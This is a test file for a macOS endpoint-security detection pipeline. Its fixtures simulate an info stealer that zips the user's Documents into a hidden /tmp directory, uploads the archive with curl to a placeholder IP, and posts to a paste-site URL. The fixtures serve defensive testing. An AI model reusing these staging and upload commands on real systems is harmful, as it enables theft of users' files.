/**
 * The exec of a transfer tool, or an archive finished in a staging place, asks for an early flow sample
 * (PipelineDeps.onTransferStart → the nettop collector): the upload that follows may start and end between two samples.
 */
import { describe, expect, it } from 'vitest';
import { body, esLine } from './testing/es-lines.mjs';
import { pipelineWorld } from './testing/test-context.js';

const NOW = 1_780_000_000;
const ZSH = { pid: 4_400_001, ppid: 1, path: '/bin/zsh', platform: true, signingId: 'com.apple.zsh', startMs: (NOW - 600) * 1000 };
const exec = (gseq: number, path: string, args: string[]) =>
  esLine({ kind: 'exec', timeMs: NOW * 1000 + gseq, gseq, process: ZSH, body: body.exec({ pid: 4_400_100 + gseq, ppid: ZSH.pid, path, platform: true, startMs: NOW * 1000 + gseq }, args, '/tmp', 10) });

describe('early flow sample at the exec of a transfer', () => {
  it('curl, and a script given a URL, ask for one; ls and ditto do not', () => {
    let asked = 0;
    const { pipeline } = pipelineWorld({ now: NOW, onTransferStart: () => asked++ });
    pipeline.handleLine(exec(1, '/bin/ls', ['ls', '-la']));
    pipeline.handleLine(exec(2, '/usr/bin/ditto', ['ditto', '-c', '-k', '/Users/a/Documents', '/tmp/.x/d.zip']));
    expect(asked).toBe(0);
    pipeline.handleLine(exec(3, '/usr/bin/curl', ['curl', '-F', 'f=@/tmp/.x/d.zip', 'http://203.0.113.9/up']));
    expect(asked).toBe(1);
    pipeline.handleLine(exec(4, '/usr/bin/python3', ['python3', 'up.py', 'https://paste.example/api']));
    expect(asked).toBe(2);
  });

  it('an archive finished in a staging place asks for one (a stealer uploading from its own process next)', () => {
    let asked = 0;
    const { pipeline } = pipelineWorld({ now: NOW, onTransferStart: () => asked++ });
    const stealer = { pid: 4_400_050, ppid: ZSH.pid, path: '/Users/a/Downloads/Installer.app/Contents/MacOS/Installer', signingId: 'a.out', teamId: null, startMs: (NOW - 20) * 1000 };
    const at = (gseq: number) => NOW * 1000 + 100 + gseq;
    // created and written: not finished yet
    pipeline.handleLine(esLine({ kind: 'create', timeMs: at(1), gseq: 11, process: stealer, body: body.createExisting('/private/tmp/.x/loot.zip') }));
    // finished somewhere that is no staging place (a user zipping their own Documents)
    pipeline.handleLine(esLine({ kind: 'close', timeMs: at(2), gseq: 12, process: stealer, body: body.close('/Users/a/Documents/report.zip', true) }));
    // read, not written
    pipeline.handleLine(esLine({ kind: 'close', timeMs: at(3), gseq: 13, process: stealer, body: body.close('/private/tmp/.x/old.zip', false) }));
    expect(asked).toBe(0);
    pipeline.handleLine(esLine({ kind: 'close', timeMs: at(4), gseq: 14, process: stealer, body: body.close('/private/tmp/.x/loot.zip', true) }));
    expect(asked).toBe(1);
    // zip(1) writes a temporary file and renames it at the end
    pipeline.handleLine(esLine({ kind: 'rename', timeMs: at(5), gseq: 15, process: stealer, body: body.renameNew('/private/tmp/.x/zi4kQ2', '/private/tmp/.x', 'more.zip') }));
    expect(asked).toBe(2);
  });
});
